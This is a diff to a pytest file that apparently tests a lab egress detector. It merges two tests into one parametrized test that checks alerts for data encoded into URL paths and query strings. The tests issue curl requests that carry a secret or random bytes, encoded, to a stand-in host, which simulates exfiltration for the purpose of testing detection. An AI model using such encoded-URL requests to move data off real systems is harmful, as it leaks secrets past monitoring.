@@ -36,27 +36,21 @@ def names_of(tmp_path, category, *names):
 
 
 @pytest.mark.parametrize("data", [SECRET, os.urandom(192)], ids=["text", "noise"])
-def test_encoded_path_is_flagged_on_the_very_request(lab, daemon, data):
+@pytest.mark.parametrize(
+    "kind,ordinary,carrier",
+    [("encoded-path", "guide/index.html?page=2", "a/"), ("encoded-query", "find?q=how+to+sort&page=2", "c?d=")],
+    ids=["path", "query"],
+)
+def test_encoded_data_is_flagged_on_the_very_request(lab, daemon, data, kind, ordinary, carrier):
     running = daemon()
-    assert lab.curl("-4", "http://docs-site.org/guide/index.html?page=2")[0] == 0
-    assert running.alerts("encoded-path") == []
-    lab.curl("-4", f"http://docs-site.org/a/{encoded(data)}")
-    alert = flag(running, "encoded-path")
+    assert lab.curl("-4", f"http://docs-site.org/{ordinary}")[0] == 0
+    assert running.alerts(kind) == []
+    lab.curl("-4", f"http://docs-site.org/{carrier}{encoded(data)}")
+    alert = flag(running, kind)
     assert alert["egress"]["destination"]["key"] == "docs-site.org"
     assert evidence(alert)["characters"] == len(encoded(data))
     # What was sent stands nowhere.
     assert encoded(data)[:40] not in running.configuration_path.with_name("eve.json").read_text()
-
-
-@pytest.mark.parametrize("data", [SECRET, os.urandom(192)], ids=["text", "noise"])
-def test_encoded_query_is_flagged_on_the_very_request(lab, daemon, data):
-    running = daemon()
-    assert lab.curl("-4", "http://docs-site.org/find?q=how+to+sort&page=2")[0] == 0
-    assert running.alerts("encoded-query") == []
-    lab.curl("-4", f"http://docs-site.org/c?d={encoded(data)}")
-    alert = flag(running, "encoded-query")
-    assert alert["egress"]["destination"]["key"] == "docs-site.org"
-    assert evidence(alert)["characters"] == len(encoded(data))
 
 
 def test_burst_of_labels_under_one_domain_is_flagged(lab, daemon):
